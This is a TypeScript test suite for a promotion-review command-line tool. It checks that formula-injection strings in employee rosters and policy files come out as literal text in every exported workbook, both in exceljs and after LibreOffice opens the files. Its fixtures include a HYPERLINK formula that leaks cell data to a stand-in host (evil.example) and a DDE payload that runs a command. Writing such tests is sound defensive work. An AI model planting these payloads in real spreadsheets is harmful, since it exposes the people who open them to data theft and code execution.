/**
 * Formula injection: names and free text beginning with `=`, `+`, `-` or `@` reach every
 * workbook the CLI writes (晋升评审, 人才库, 晋升汇总, the copied CSV roster, `promo policy export`)
 * as plain text cells, never as formulas: checked with exceljs (cell type String, no formula)
 * and after LibreOffice opens the files (`soffice --headless --convert-to csv`, every sheet),
 * where a formula would show its computed value instead of the text.
 */
import * as fs from "node:fs";
import * as path from "node:path";
import { parseString } from "@fast-csv/parse";
import ExcelJS from "exceljs";
import { allCells, ensureCliBuilt, mapLimit, openWorkbook, promoAsync, sofficeCsv, tempDir, type CliRun } from "./helpers";

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")';
const DDE = "=cmd|' /C calc'!A0";
const PLUS = "+1+1";
const MINUS = "-2+3";
const AT = "@SUM(1,2)";
const PHONE = "+86 138 0000 0000";
const EQ = "=1+1";

const TAOBAO_HEADER = ["工号", "姓名", "部门", "职级", "入职日期", "任现职日期", "绩效", "团队协作", "学习成长", "客户满意度", "工单量", "差错率", "技能考核", "技能证书", "低质评价", "备注"];
const GOOD = ["2024-01-01", "2024-01-01", 90, 85, 80, "96%", 6000, "0.5%", 85, "是", 0];
/** Every hostile text in a name, id, department, level or free-text column. */
const TAOBAO_ROWS: (string | number)[][] = [
  ["E001", HYPERLINK, PLUS, "初级客服", ...GOOD, EQ],
  ["@E002", MINUS, AT, "中级客服", ...GOOD, "-"],
  ["E003", DDE, "-", "=初级客服", ...GOOD, ""],
  ["-0042", PHONE, "=", "高级客服", ...GOOD, "@"],
];

/** A policy whose name, levels, aliases and path labels are hostile text (from `promo policy export taobao-cs --json`). */
function hostilePolicy(source: string): string {
  const p = JSON.parse(source) as {
    id: string;
    name: string;
    nameEn: string;
    sources: string[];
    levels: { name: string; aliases?: string[] }[];
    steps: { from: string; to: string; paths: { label: string }[] }[];
  };
  const rename: Record<string, string> = { 初级客服: "=初级", 中级客服: "+中级", 高级客服: "-高级", 资深客服: "@资深" };
  p.id = "inject";
  p.name = HYPERLINK;
  p.nameEn = DDE;
  p.sources = [MINUS, AT];
  p.levels = p.levels.map((l) => ({ ...l, name: rename[l.name]!, aliases: [`=${l.name}`] }));
  for (const s of p.steps) {
    s.from = rename[s.from]!;
    s.to = rename[s.to]!;
    for (const path of s.paths) path.label = "=标准";
  }
  return JSON.stringify(p, null, 2);
}

function csvLine(cells: readonly (string | number)[]): string {
  return cells.map((c) => (/[",\r\n]/.test(String(c)) ? `"${String(c).replace(/"/g, '""')}"` : String(c))).join(",");
}

/** What each output must hold as text: sheet -> hostile strings. */
interface Expectation {
  readonly out: string;
  readonly sheets: Readonly<Record<string, readonly string[]>>;
}

let dir: string;
const expectations: Expectation[] = [];
const runs: CliRun[] = [];

beforeAll(async () => {
  ensureCliBuilt();
  dir = tempDir("inject");
  const at = (name: string): string => path.join(dir, name);

  // 1. An .xlsx roster of taobao-cs with hostile names, ids, departments, a level and notes.
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("名单");
  ws.addRow(TAOBAO_HEADER);
  for (const r of TAOBAO_ROWS) ws.addRow(r);
  await wb.xlsx.writeFile(at("roster.xlsx"));
  expectations.push({
    out: at("roster-review.xlsx"),
    sheets: {
      名单: [HYPERLINK, PLUS, "@E002", MINUS, AT, DDE, "-", "=初级客服", "-0042", PHONE, "=", EQ, "@"],
      晋升评审: [HYPERLINK, "@E002", MINUS, AT, DDE, "=初级客服", "-0042", PHONE, PLUS, "-", "="],
      晋升汇总: [PLUS, AT, "-", "=", "=初级客服"],
    },
  });

  // 2. A CSV named like a formula, reviewed with a policy whose names are formulas.
  const policyJson = await promoAsync(["policy", "export", "taobao-cs", "--json"]);
  fs.writeFileSync(at("inject.json"), hostilePolicy(policyJson.stdout));
  const levels = ["=初级", "+中级", "-高级", "@资深"];
  const csvRows = TAOBAO_ROWS.map((r, i) => [r[0]!, r[1]!, r[2]!, levels[i]!, ...r.slice(4)]);
  fs.writeFileSync(at("=SUM(1,2).csv"), [csvLine(TAOBAO_HEADER), ...csvRows.map(csvLine)].join("\r\n"));
  expectations.push({
    out: at("csv-review.xlsx"),
    sheets: {
      "=SUM(1,2)": [HYPERLINK, PLUS, MINUS, AT, DDE, PHONE, EQ, ...levels],
      晋升评审: [HYPERLINK, MINUS, DDE, PHONE, ...levels],
      晋升汇总: [HYPERLINK, "=SUM(1,2)", ...levels],
    },
  });

  // 3. Reserves awaiting a vacancy (store-ops): the talent pool lists their names and stores.
  const pool = [
    ["工号", "姓名", "门店", "岗位", "入职日期", "任现职日期", "绩效", "技能考核", "培训结业"],
    ["S01", HYPERLINK, PLUS, "储备领班", "2024-01-01", "2025-01-01", 88, 85, "是"],
    ["@S02", AT, MINUS, "储备店长", "2022-01-01", "2024-01-01", 90, 92, "是"],
    ["S03", "周九", "二号店", "普通员工", "2026-09-01", "2026-09-01", 70, 60, "否"],
  ];
  fs.writeFileSync(at("pool.csv"), pool.map(csvLine).join("\n"));
  expectations.push({ out: at("pool-review.xlsx"), sheets: { 人才库: [HYPERLINK, PLUS, "@S02", AT, MINUS] } });

  // 4. The hostile policy exported as policy sheets.
  expectations.push({ out: at("policy.xlsx"), sheets: { 晋升方案: [HYPERLINK, DDE], 职级: [...levels, "=初级客服"], 规则: [...levels, "=标准 (standard)"] } });

  const commands = [
    ["review", at("roster.xlsx"), "--policy", "taobao-cs", "--as-of", "2026-11-23", "--out", expectations[0]!.out],
    ["review", at("=SUM(1,2).csv"), "--policy", at("inject.json"), "--as-of", "2026-11-23", "--out", expectations[1]!.out],
    ["review", at("pool.csv"), "--policy", "store-ops", "--as-of", "2026-11-23", "--out", expectations[2]!.out],
    ["policy", "export", at("inject.json"), "--out", expectations[3]!.out],
  ];
  runs.push(...(await mapLimit(commands, 2, (args) => promoAsync(args))));
}, 60_000);

afterAll(() => {
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

test("every command ran (exit 0)", () => {
  expect(runs.map((r) => ({ code: r.code, stderr: r.code === 0 ? "" : r.stderr }))).toEqual(runs.map(() => ({ code: 0, stderr: "" })));
});

test("the hostile rows were reviewed, not dropped", async () => {
  const wb = await openWorkbook(expectations[2]!.out);
  const pool: unknown[] = [];
  wb.getWorksheet("人才库")!.eachRow((row) => pool.push(row.getCell(2).value));
  expect(pool).toEqual(expect.arrayContaining([HYPERLINK, AT]));
});

describe.each([0, 1, 2, 3])("output %i: exceljs reads text, never a formula", (i) => {
  test("no cell of any sheet is a formula; every hostile text is a String cell on its sheet", async () => {
    const e = expectations[i]!;
    const cells = allCells(await openWorkbook(e.out));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula !== undefined)).toEqual([]);
    for (const [sheet, texts] of Object.entries(e.sheets)) {
      for (const text of texts) {
        const found = cells.filter((c) => c.sheet === sheet && c.value === text);
        expect({ sheet, text, found: found.length > 0 }).toEqual({ sheet, text, found: true });
        for (const c of found) expect({ sheet, address: c.address, type: c.type }).toEqual({ sheet, address: c.address, type: ExcelJS.ValueType.String });
      }
    }
  });
});

function parseCsv(text: string): Promise<string[][]> {
  return new Promise((resolve, reject) => {
    const rows: string[][] = [];
    parseString<string[], string[]>(text, { ignoreEmpty: false })
      .on("error", reject)
      .on("data", (r: string[]) => rows.push(r))
      .on("end", () => resolve(rows));
  });
}

describe("LibreOffice opens the outputs and reads the text back literally", () => {
  let sheets: Map<string, string>;
  beforeAll(async () => {
    const outDir = path.join(dir, "lo");
    fs.mkdirSync(outDir);
    sheets = await sofficeCsv(
      expectations.map((e) => e.out),
      outDir,
    );
  }, 90_000);

  test.each([0, 1, 2, 3])("output %i", async (i) => {
    const e = expectations[i]!;
    const base = path.basename(e.out, ".xlsx");
    for (const [sheet, texts] of Object.entries(e.sheets)) {
      const csv = sheets.get(`${base}-${sheet}`);
      expect({ sheet, converted: csv !== undefined }).toEqual({ sheet, converted: true });
      const values = new Set((await parseCsv(csv!)).flat());
      for (const text of texts) expect({ sheet, text, literal: values.has(text) }).toEqual({ sheet, text, literal: true });
    }
  });
});
